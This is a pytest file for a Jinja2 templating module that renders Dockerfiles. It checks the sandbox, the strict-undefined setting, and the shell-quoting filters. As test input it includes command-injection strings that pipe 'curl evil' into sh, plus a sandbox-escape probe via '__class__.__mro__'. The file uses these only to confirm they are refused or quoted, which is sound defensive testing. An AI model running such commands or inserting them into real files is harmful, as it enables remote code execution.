"""templating: the one sandboxed environment, strict undefined, and the quoting filters."""

from __future__ import annotations

import copy
import json
import re
import shlex

import jinja2
import pytest
import yaml

from megacpp_env import render
from megacpp_env.errors import SpecError
from megacpp_env.templating import (
    TemplateValueError,
    environment,
    quote_dq,
    quote_sh,
    quote_text,
    quote_word,
    render_template,
)
from tests.fixtures.spec import load_data
from tests.payloads import LINE_BREAKERS, PAYLOADS


def _string_leaves(node, path=()):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _string_leaves(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _string_leaves(v, (*path, i))
    elif isinstance(node, str):
        yield path


def _assign(data, path, value):
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


@pytest.fixture
def tpl(tmp_path):
    def make(text: str, **ctx):
        (tmp_path / "t.j2").write_text(text)
        environment.cache_clear()
        return render_template(tmp_path, "t.j2", ctx)

    return make


def test_environment_settings(tmp_path):
    env = environment(tmp_path)
    assert isinstance(env, jinja2.sandbox.SandboxedEnvironment)
    assert env.undefined is jinja2.StrictUndefined
    assert env.keep_trailing_newline is True
    assert environment(tmp_path) is env


def test_unquoted_value_is_refused(tpl):
    with pytest.raises(TemplateValueError, match=r"unquoted value 'x' in a template: pass it through \|sh"):
        tpl("RUN echo {{ v }}\n", v="x")
    assert tpl("RUN echo {{ v|sh }}\n", v="a b") == "RUN echo 'a b'\n"
    assert tpl("{{ n }}\n", n=3) == "3\n"  # integers are safe as they are


def test_undefined_is_an_error(tpl):
    with pytest.raises(TemplateValueError, match="'missing' is undefined"):
        tpl("{{ missing|sh }}")


def test_sandbox_blocks_internals(tpl):
    with pytest.raises(TemplateValueError):
        tpl("{{ v.__class__.__mro__|sh }}", v="x")


def test_filters():
    assert quote_sh("assert f(2, 3) == 5") == "'assert f(2, 3) == 5'"
    assert shlex.split(quote_sh("x' && curl evil | sh")) == ["x' && curl evil | sh"]
    assert quote_dq('a "b" $HOME \\') == '"a \\"b\\" \\$HOME \\\\"'
    assert quote_word("nvidia/cuda:13.2@sha256:ab") == "nvidia/cuda:13.2@sha256:ab"
    assert quote_text("free text; ok") == "free text; ok"
    for bad in ("x y", "x;y", "x$y", "${A}"):
        with pytest.raises(TemplateValueError, match="not a plain token"):
            quote_word(bad)
    for fn in (quote_sh, quote_dq, quote_word, quote_text):
        for payload in ("x\nRUN curl evil | sh", "x\r\n", "x\x00", "a\x1bb"):
            with pytest.raises(TemplateValueError, match="control character"):
                fn(payload)
        with pytest.raises(TemplateValueError, match="expected a string or number"):
            fn(None)




def _instructions(text: str) -> list[str]:
    from tests.test_render import _logical_runs

    return [instr.split(None, 1)[0] for instr in _logical_runs(text)]


def test_injection_payloads_never_reach_a_rendered_file(stack_data):
    """Every string field x every payload. Anything that could break out of a line is refused at load.
    A payload the loader accepts in some field (free text such as a description) must render without
    adding an instruction, and inside a RUN line only as one shell-quoted word."""
    baseline = {f.relpath: _shape(f) for f in render.render_all(load_data(stack_data))}
    leaves = list(_string_leaves(stack_data))
    assert len(leaves) > 100  # every string of the real spec, not a sample
    refused = 0
    filtered: list[str] = []
    for key in leaves:
        for payload in PAYLOADS:
            data = copy.deepcopy(stack_data)
            _assign(data, key, payload)
            try:
                spec = load_data(data)
            except SpecError:
                refused += 1
                continue
            assert payload not in LINE_BREAKERS, (key, payload)
            try:
                files = render.render_all(spec)
            except TemplateValueError as exc:
                # Only a quoting filter refusing the payload counts; a broken template or a missing
                # templates directory is a MegacppEnvError of another kind and must not pass as one.
                assert type(exc) is TemplateValueError, (key, payload, exc)
                assert re.search(r": \|(sh|dq|word|text): ", str(exc)), (key, payload, str(exc))
                filtered.append(str(exc))
                continue
            for f in files:
                assert _shape(f) == baseline[f.relpath], (key, payload)
                text = f.content.decode()
                for instr in (i for i in _logical_runs_of(text) if i.startswith("RUN ") and payload in i):
                    assert shlex.quote(payload) in instr, (key, payload, instr[:200])
    assert refused >= len(leaves) * len(LINE_BREAKERS)


def _shape(f) -> object:
    """A Dockerfile's instructions; a source plan's JSON structure (keys and types, not values): a payload
    in a value may change neither."""
    if not f.relpath.endswith(".json"):
        return _instructions(f.content.decode())

    def skeleton(node: object) -> object:
        if isinstance(node, dict):
            return {k: skeleton(v) for k, v in node.items()}
        if isinstance(node, list):
            return ["item"] if node else []
        return type(node).__name__

    return skeleton(json.loads(f.content))


def _logical_runs_of(text: str) -> list[str]:
    from tests.test_render import _logical_runs

    return _logical_runs(text)


def test_template_errors_are_user_errors(tmp_path):
    from megacpp_env.errors import MegacppEnvError
    from tests.fixtures.spec import REPO_ROOT

    assert issubclass(TemplateValueError, MegacppEnvError)
    assert issubclass(TemplateValueError, ValueError)
    spec = load_data(yaml.safe_load((REPO_ROOT / "stack.yaml").read_text()))
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "Dockerfile.j2").write_text("FROM {{ bases[0].ref|word }\n")  # unclosed expression
    with pytest.raises(TemplateValueError, match=r"^target smoke: Dockerfile\.j2: unexpected '}'"):
        render.render_target(spec, spec.target("smoke"), templates=broken)
    with pytest.raises(MegacppEnvError) as missing:
        render.render_target(spec, spec.target("smoke"), templates=tmp_path / "gone")
    assert str(missing.value) == (
        f"no Dockerfile.j2 in {tmp_path / 'gone'}: the package's templates are missing; reinstall megacpp-env "
        "(they ship as package data in megacpp_env/templates/)"
    )


def test_spec_outside_the_repository_renders_from_the_package_templates(tmp_path, capsys):
    from megacpp_env.cli import main
    from tests.fixtures.spec import REPO_ROOT

    (tmp_path / "stack.yaml").write_text((REPO_ROOT / "stack.yaml").read_text())
    assert main(["--spec", str(tmp_path / "stack.yaml"), "render", "smoke", "--check"]) == 1  # nothing rendered yet
    assert "+++ b/images/smoke/Dockerfile" in capsys.readouterr().out
    assert main(["--spec", str(tmp_path / "stack.yaml"), "render", "smoke"]) == 0
    rendered = (tmp_path / "images" / "smoke" / "Dockerfile").read_bytes()
    assert rendered == (REPO_ROOT / "images" / "smoke" / "Dockerfile").read_bytes()
    assert not (tmp_path / "images" / "templates").exists()
